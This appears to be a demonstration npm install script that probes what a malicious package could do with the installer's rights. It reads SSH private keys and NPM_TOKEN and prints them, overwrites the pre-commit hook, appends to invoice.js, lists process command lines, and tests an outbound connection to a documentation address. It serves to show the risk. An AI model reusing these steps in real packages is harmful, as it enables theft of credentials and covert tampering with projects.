// What an install script can do with your rights: everything you can.  This one tries what those
// that were found in the wild did, and says how far it came.  It does no harm where it succeeds.
const fs = require("fs");
const net = require("net");
const os = require("os");
const path = require("path");

const project = process.env.INIT_CWD || path.resolve("../..");

function homes() {
	const found = [os.homedir(), "/root"];

	for (let at = project; at !== "/"; at = path.dirname(at))
		found.push(at);
	try {
		found.push(...fs.readdirSync("/home").map((name) => path.join("/home", name)));
	} catch {
		// nobody lives here
	}
	return found;
}

function say(what, got) {
	console.log(`  ${what.padEnd(34)} ${got}`);
}

function attempt(what, deed) {
	try {
		say(what, deed() || "nothing there");
	} catch (error) {
		say(what, error.code || error.message);
	}
}

attempt("read SSH keys", () => {
	const keys = homes().map((home) => path.join(home, ".ssh", "id_ed25519"));
	const loot = keys.filter((key) => fs.existsSync(key)).map((key) => fs.readFileSync(key));

	return loot.length ? `GOT ${loot}` : "";
});
attempt("read the token in the environment", () =>
	process.env.NPM_TOKEN ? `GOT ${process.env.NPM_TOKEN}` : "");
attempt("plant a git hook", () => {
	fs.writeFileSync(path.join(project, ".git/hooks/pre-commit"), "#!/bin/sh\n", { mode: 0o755 });
	return "GOT a hook that runs with the next commit";
});
attempt("change the project's own code", () => {
	fs.appendFileSync(path.join(project, "invoice.js"), "// and more\n");
	return "GOT the project";
});
attempt("see other processes", () => {
	const others = fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name));
	const all = others.map((pid) => fs.readFileSync(`/proc/${pid}/cmdline`, "latin1").split("\0")[0]);

	return `${all.length}, all of this box`;
});

const socket = net.connect(443, "192.0.2.1"); // an address that is nobody's
socket.setTimeout(2000, () => socket.destroy(new Error("no answer")));
socket.on("connect", () => {
	say("send what it found to a server", "GOT through");
	socket.destroy();
});
socket.on("error", (error) => say("send what it found to a server", error.code || error.message));
